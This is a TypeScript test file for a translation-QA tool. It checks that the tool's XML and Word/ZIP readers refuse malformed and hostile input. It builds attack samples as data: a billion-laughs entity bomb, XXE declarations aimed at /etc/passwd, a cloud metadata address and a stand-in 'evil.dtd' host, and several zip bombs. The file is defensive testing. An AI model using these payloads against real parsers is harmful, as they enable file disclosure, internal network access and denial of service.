// Hostile and broken input for the XML and ZIP readers: each is refused with a clear error report
// (naming line and column where there is one), nothing is expanded, fetched or inflated beyond
// its limits. The bombs are real files, built here; none is opened past its declared size.
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { MAX_DEPTH, escapeXml } from '../lib/formats/xml.js';
import { MAX_ENTRIES, MAX_UNZIPPED_BYTES } from '../lib/formats/zip.js';
import { check, docxFile, wordDocument } from './format-fixtures.js';

// An empty source: these files test the reader, and the bilingual checks have nothing to compare.
const unit = (target: string) => `<xliff version="1.2"><file target-language="en"><body><trans-unit id="1"><source></source><target>${target}</target></trans-unit></body></file></xliff>`;
const errorOf = (content: string | Uint8Array, name: string) => {
  const r = check(content, name);
  expect(r.status).toBe('error');
  return r.error!;
};

describe('XML that is not well-formed', () => {
  const amp = "is not a character reference or one of XML's five predefined entities (&amp; &lt; &gt; &quot; &apos;); write a literal & as &amp;.";
  it.each([
    ['<y></z>', unit('<g id="1">text</x>'), '</x>', 'The end tag </x> does not match <g>.'],
    ['a bare <', unit('a < b'), '< b', "'<' that does not start a tag: write a literal < as &lt;."],
    ['a bare &', unit('AT&T'), '&T', `'&T' ${amp}`],
    ['an HTML entity', unit('100&nbsp;euros'), '&nbsp;', `'&nbsp;' ${amp}`],
    ['a NUL character reference', unit('a&#0;b'), '&#0;', `'&#0;' ${amp}`],
    ['an unquoted attribute', '<xliff version=1.2></xliff>', ' version', 'The start tag <xliff> is malformed after \' version=1.2></xliff\' (attributes are name="value").'],
    ['two roots', '<xliff version="1.2"></xliff><xliff/>', '<xliff/>', 'A second root element <xliff>.'],
    ['an unclosed comment', '<xliff version="1.2"><!-- x', '<!--', 'A comment is never closed (-->).'],
  ])('refuses %s with its line and column', (_, file, at, message) => {
    expect(errorOf(file, 'a.xlf')).toEqual({ code: 'invalid-format', message: `Not valid XLIFF (line 1, column ${file.indexOf(at) + 1}): ${message}` });
  });

  it.each([
    ['an unclosed element', '<xliff version="1.2">\n<file>\n', 'Not valid XLIFF (line 2, column 1): <file> is never closed.'],
    ['text after the root', '<xliff version="1.2"></xliff>\ntrailing', 'Not valid XLIFF (line 2, column 1): Text after the root element.'],
  ])('refuses %s with its line and column', (_, file, message) => {
    expect(errorOf(file, 'a.xlf')).toEqual({ code: 'invalid-format', message });
  });

  it(`refuses nesting deeper than ${MAX_DEPTH} levels`, () => {
    expect(errorOf(unit('<g>'.repeat(MAX_DEPTH + 10)), 'a.xlf').message).toMatch(/Elements nested deeper than 10000 levels\.$/);
  });

  it('reads CDATA as text and escapes fix text for XML', () => {
    const r = check(unit('The sides, <![CDATA[Tom & Jerry <3]]>, will expand cooperation. in the field of energy.'), 'a.xlf');
    expect(r.findings.map((f) => f.rule)).toEqual(['stray-sentence-break']);
    expect(escapeXml('a < b & c > d')).toBe('a &lt; b &amp; c &gt; d');
  });
});

describe('entities', () => {
  const laughs =
    '<?xml version="1.0"?>\n<!DOCTYPE xliff [\n <!ENTITY lol "lol">\n' +
    Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i ? i : ''};`.repeat(10)}">\n`).join('') +
    ']>\n' +
    unit('&lol9;');

  it('refuses an entity-expansion bomb (billion laughs) without expanding anything', () => {
    expect(errorOf(laughs, 'bomb.xlf')).toEqual({
      code: 'invalid-format',
      message:
        'Not valid XLIFF (line 3, column 2): The DOCTYPE declares entities. mtqa never expands entities (entity-expansion bombs, ' +
        'external entities that read files or URLs) and refuses such files; save the file without a DOCTYPE.',
    });
  });

  it.each([
    ['a file', '<!DOCTYPE xliff [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'],
    ['a URL', '<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>'],
    ['a parameter entity', '<!DOCTYPE xliff [<!ENTITY % p SYSTEM "http://example.org/evil.dtd"> %p;]>'],
  ])('refuses an external entity pointing at %s', (_, doctype) => {
    expect(errorOf(`${doctype}\n${unit('&xxe;')}`, 'x.xlf').message).toMatch(/The DOCTYPE declares entities/);
    expect(errorOf(`${doctype}\n<tmx version="1.4"><body/></tmx>`, 'x.tmx').message).toMatch(/^Not valid TMX \(line 1, column \d+\): The DOCTYPE declares entities/);
  });

  it('reads a DOCTYPE that only names its DTD (never fetched)', () => {
    expect(check(`<!DOCTYPE xliff PUBLIC "-//XLIFF//DTD XLIFF//EN" "http://www.oasis-open.org/committees/xliff/documents/xliff.dtd">\n${unit('Fine.')}`, 'a.xlf').status).toBe('ok');
  });
});

/** Rewrites a field of the central-directory entry for `name` (offset inside the 46-byte header). */
function patchCentral(zip: Uint8Array, name: string, field: number, value: number, bytes: 2 | 4): Uint8Array {
  const out = zip.slice();
  const v = new DataView(out.buffer);
  const encoded = strToU8(name);
  for (let at = out.length - 22; at >= 0; at--) {
    if (v.getUint32(at, true) !== 0x02014b50) continue;
    const length = v.getUint16(at + 28, true);
    if (length === encoded.length && encoded.every((b, i) => out[at + 46 + i] === b)) {
      if (bytes === 2) v.setUint16(at + field, value, true);
      else v.setUint32(at + field, value, true);
      return out;
    }
  }
  throw new Error(`no entry ${name}`);
}

describe('ZIP bombs and broken Word files', () => {
  const doc = wordDocument('<w:p><w:r><w:t>Fine text.</w:t></w:r></w:p>');
  const good = docxFile({ 'word/document.xml': doc });

  it('reads the file the bombs are made from', () => expect(check(good, 'a.docx').status).toBe('ok'));

  it('refuses an entry that inflates to more than it declares (zlib stops at the declared size)', () => {
    // 4 MB of paragraphs, declared as 1,000 bytes.
    const big = docxFile({ 'word/document.xml': wordDocument('<w:p><w:r><w:t>Fine text.</w:t></w:r></w:p>'.repeat(100_000)) });
    expect(errorOf(patchCentral(big, 'word/document.xml', 24, 1000, 4), 'a.docx')).toEqual({
      code: 'invalid-format',
      message: "Not valid Word document: 'word/document.xml' inflates to more than the 1000 bytes it declares; refused as a possible zip bomb.",
    });
  });

  it('refuses entries declaring more than the uncompressed limit, before inflating them', () => {
    const lying = patchCentral(good, 'word/document.xml', 24, MAX_UNZIPPED_BYTES + 1, 4);
    expect(errorOf(lying, 'a.docx').message).toBe(
      `Not valid Word document: The archive's text parts declare more than ${MAX_UNZIPPED_BYTES} bytes uncompressed; refused as a possible zip bomb.`,
    );
  });

  it('refuses an entry that holds fewer bytes than it declares', () => {
    const short = patchCentral(good, 'word/document.xml', 24, doc.length + 10, 4);
    expect(errorOf(short, 'a.docx').message).toMatch(/'word\/document\.xml' holds fewer bytes than it declares/);
  });

  it(`refuses more than ${MAX_ENTRIES} entries`, () => {
    const files: Record<string, Uint8Array> = { 'word/document.xml': strToU8(doc) };
    for (let i = 0; i <= MAX_ENTRIES; i++) files[`customXml/item${i}.xml`] = new Uint8Array(0);
    expect(errorOf(zipSync(files, { level: 0 }), 'many.docx').message).toBe(
      `Not valid Word document: The archive lists ${MAX_ENTRIES + 2} entries; the limit is ${MAX_ENTRIES} (a document has a few hundred at most).`,
    );
  });

  it('never opens an archive nested inside (a zip bomb in word/embeddings is not inflated)', () => {
    const bomb = zipSync({ 'zeros.bin': new Uint8Array(20 * 1024 * 1024) }, { level: 9 });
    const nested = zipSync({ 'word/document.xml': strToU8(doc), 'word/embeddings/package.zip': bomb }, { level: 0 });
    expect(check(nested, 'a.docx').status).toBe('ok');
  });

  it('refuses encrypted entries, unknown compression and duplicate names', () => {
    expect(errorOf(patchCentral(good, 'word/document.xml', 8, 1, 2), 'a.docx').message).toMatch(/is encrypted \(the document is password-protected\)/);
    expect(errorOf(patchCentral(good, 'word/document.xml', 10, 12, 2), 'a.docx').message).toMatch(/uses compression method 12; only stored and deflate are read/);
    const twice = zipSync({ 'word/document.xml': strToU8(doc), 'word/documenX.xml': strToU8(doc) });
    const at = Buffer.from(twice).lastIndexOf('word/documenX.xml');
    twice[at + 'word/documen'.length] = 't'.charCodeAt(0);
    expect(errorOf(twice, 'a.docx').message).toBe("Not valid Word document: The archive holds 'word/document.xml' twice.");
  });

  it('says what is wrong with files that are not Word documents', () => {
    expect(errorOf('plain text', 'a.docx').message).toBe('Not valid Word document: The file is not a ZIP archive, so not a .docx document.');
    expect(errorOf(zipSync({ 'xl/workbook.xml': strToU8('<workbook/>') }), 'a.docx').message).toBe(
      'Not valid Word document: The archive has no word/document.xml: it is not a Word document.',
    );
    expect(errorOf(good.subarray(0, good.length - 30), 'a.docx').message).toMatch(/no central directory \(truncated or damaged\)/);
    // A ZIP that is not a Word file, named as nothing in particular, is refused as binary as before.
    expect(check(zipSync({ 'a.txt': strToU8('x') }), 'upload').error?.code).toBe('binary');
  });

  it('names the part, line and column of malformed XML inside a Word file', () => {
    const broken = docxFile({ 'word/document.xml': wordDocument('<w:p><w:r><w:t>Text</w:r></w:p>') });
    expect(errorOf(broken, 'a.docx').message).toMatch(/^Not valid Word document: word\/document\.xml, line 2, column \d+: The end tag <\/w:r> does not match <w:t>\.$/);
  });
});
